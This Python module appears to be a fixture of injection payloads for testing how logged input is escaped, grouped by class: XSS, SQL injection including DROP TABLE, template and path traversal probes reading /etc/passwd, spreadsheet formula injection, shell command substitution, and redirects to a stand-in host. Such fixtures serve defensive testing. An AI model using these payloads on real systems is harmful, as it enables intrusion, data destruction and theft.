"""What an attacker may have written into a log: each class with its payloads.

Each payload holds ``zq``, so that it can be looked for; in names of elements and attributes, in addresses and in styles
of the pages it must not stand.
"""

from dataclasses import dataclass
from enum import StrEnum

MARK = "zq"


class Kind(StrEnum):
    """A class of payloads, by what would be fooled."""

    HTML = "HTML elements"
    ATTRIBUTE = "HTML attributes"
    SCRIPT = "JavaScript"
    URL = "addresses that run or lead away"
    CSS = "style sheets"
    TEMPLATE = "templates"
    FORMULA = "formulas of spreadsheets"
    DIRECTION = "direction and invisible characters"
    CONTROL = "control characters"
    HEADER = "mail and HTTP headers"
    SQL = "SQL and its wildcards"
    PATH = "paths"
    SHELL = "shells"
    ENCODING = "bytes that are no UTF-8"
    LONG = "very long"


@dataclass(frozen=True, slots=True)
class Payload:
    kind: Kind
    text: str

    @property
    def dense(self) -> str:
        """The same without spaces, as it may stand in a field that ends at one; HTML takes a slash instead."""
        return self.text.replace(" ", "/")


_TEXTS: dict[Kind, tuple[str, ...]] = {
    Kind.HTML: (
        "<script>zq(1)</script>",
        "<img src=zq onerror=alert(1)>",
        "<svg><script>zq</script></svg>",
        "</title></style></textarea></script><zq>",
        "</code></td></table></main><form action=//zq.example><input name=zq>",
        "<!--zq-->",
        "<![CDATA[<zq>]]>",
        "<iframe srcdoc='<script>zq</script>'></iframe>",
        "<meta http-equiv=refresh content=0;url=//zq.example>",
        "<base href=//zq.example>",
        "<math><mtext><mglyph><style><!--</style><img src=zq onerror=alert(1)>",
        "&lt;script&gt;zq&lt;/script&gt;",
        "&#60;img src=zq onerror=alert(1)&#62;",
        "<zq\u00a0onclick=alert(1)>",
        "\uff1cscript\uff1ezq\uff1c/script\uff1e",
        "<template><zq></template><dialog open>zq</dialog>",
    ),
    Kind.ATTRIBUTE: (
        '" onmouseover=alert(1) zq="',
        "' autofocus onfocus=alert(1) zq='",
        '"><zq x="',
        "'><zq x='",
        "` onclick=alert(1) zq=`",
        "x zq=1 onpointerenter=alert(1)",
        '" style="position:fixed" id="main" zq="',
        '" hx-get="//zq.example" hx-trigger="load" zq="',
        "&quot; onload=alert(1) zq=&quot;",
        '" data-suggest="//zq.example" zq="',
    ),
    Kind.SCRIPT: (
        "';alert(1)//zq",
        '";alert(1)//zq',
        "</script><script>zq()//",
        "\\';alert(1)//zq",
        "${alert(1)}zq",
        "`+alert(1)+`zq",
        "<!--<script>zq",
        '{"__proto__":{"zq":1}}',
        '"}],"zq":[{"',
    ),
    Kind.URL: (
        "javascript:alert(1)//zq",
        "JaVaScRiPt:alert(1)//zq",
        "java\tscript:alert(1)//zq",
        "data:text/html,<script>zq</script>",
        "data:text/html;base64,PHNjcmlwdD56cTwvc2NyaXB0Pg==zq",
        "vbscript:zq",
        "//zq.example/",
        "https://zq.example/%22onload=alert(1)",
        "/\\zq.example",
        "..//zq.example/..",
        "?next=//zq.example#zq",
        "blob:zq",
    ),
    Kind.CSS: (
        "</style><style>*{zq:1}",
        "red;background:url(//zq.example)",
        "expression(alert(1))zq",
        "@import'//zq.example';",
        "}*{content:'zq'}",
        "\\3c zq\\3e",
    ),
    Kind.TEMPLATE: (
        "zq{{7|add:42}}",
        "{% include '/etc/passwd' %}zq",
        "{{settings.SECRET_KEY}}zq",
        "{% debug %}zq",
        "{#zq#}",
        "${7*7}zq#{7*7}<%=7*7%>",
        "zq%s%(name)s{0}{name!r}",
        "zq{0.__class__.__mro__}",
    ),
    Kind.FORMULA: (
        "=zq+cmd|'/C calc'!A0",
        "+zq+1",
        "-zq+1",
        "@SUM(zq)",
        '=HYPERLINK("//zq.example","zq")',
        "\t=zq",
        "\uff1dzq",
        "\uff0bzq",
        "\uff20zq",
        " =zq",
        "\u200b=zq",
        '";=zq',
        '",=zq,"',
    ),
    Kind.DIRECTION: (
        "zq\u202egnp.exe",
        "zq\u202a\u202b\u202d\u202c",
        "zq\u2066\u2067\u2068\u2069",
        "zq\u200e\u200f\u061c",
        "z\u200bq\u200c\u200d\u2060zq",
        "zq\ufeff\u00ad\u180e",
        "zq\u2028zq\u2029zq",
        "zq\U000e0041\U000e007f",
        "zq\u0085zq",
        "zq\ufff9\ufffa\ufffb",
    ),
    Kind.CONTROL: (
        "zq\x1b[2J\x1b]0;zq\x07",
        "zq\x1b]8;;http://zq.example\x1b\\zq\x1b]8;;\x1b\\",
        "zq\x00zq",
        "zq\rzq",
        "zq\x08\x08\x7f",
        "zq\x0b\x0c\x1c\x1d\x1e\x1f",
        "zq\x9b31mzq",
        "zq\x01\x02\x03\x04\x05\x06\x0e\x0f\x1a",
        "zq\ttab",
    ),
    Kind.HEADER: (
        "zq\\r\\nBcc: all@zq.example",
        "zq\rBcc: all@zq.example",
        "zq%0d%0aSet-Cookie: zq=1",
        "zq\u560d\u560aSet-Cookie:zq",
        "=?utf-8?q?zq=0D=0ABcc:_x?=",
        "zq, all@zq.example; to=x",
        '"zq" <all@zq.example>',
        "--zq-- boundary",
    ),
    Kind.SQL: (
        "zq' OR '1'='1",
        "zq'; DROP TABLE ingest_message;--",
        'zq" OR ""="',
        "zq%_%_\\%",
        "zq')) UNION SELECT NULL--",
        "zq\\'; SELECT pg_sleep(9)--",
        "$$zq$$ E'zq' :zq %(zq)s",
        "zq{},NULL,\\N,\\.",
    ),
    Kind.PATH: (
        "../../../../zq",
        "..\\..\\zq",
        "/etc/passwd/zq",
        "zq/%2e%2e/%2f",
        "%00zq",
        "zq//../?zq#zq",
        "file:///etc/zq",
        ".",
        "zq;/..;/",
    ),
    Kind.SHELL: (
        "$(touch zq)",
        "`touch zq`",
        "|touch zq",
        "zq;touch zq&",
        "zq > zq < zq",
        "-zq --help",
    ),
    # bytes, as Python writes those that it cannot read
    Kind.ENCODING: (
        "zq\udcff\udcfe",
        "zq\udcc0\udcbcscript\udcc0\udcbe",
        "zq\udced\udca0\udc80",
        "zq\udce2\udc80",
        "zq\udc9b[2J",
        "zq\udcf4\udc90\udc80\udc80",
        "+ADw-zq+AD4-",
        "zq\udcae\udce2\udc80\udcae",
    ),
    Kind.LONG: (
        "zq" + "A" * 900,
        "zq" + "<" * 300,
        "zq" + "\u202e" * 300,
        "zq" + "e\u0301" * 400,
        "zq" + "a." * 200 + "example",
        "zq" + "%25" * 300,
    ),
}

PAYLOADS = tuple(Payload(kind, text) for kind, texts in _TEXTS.items() for text in texts)


def of(kind: Kind) -> tuple[Payload, ...]:
    return tuple(payload for payload in PAYLOADS if payload.kind == kind)
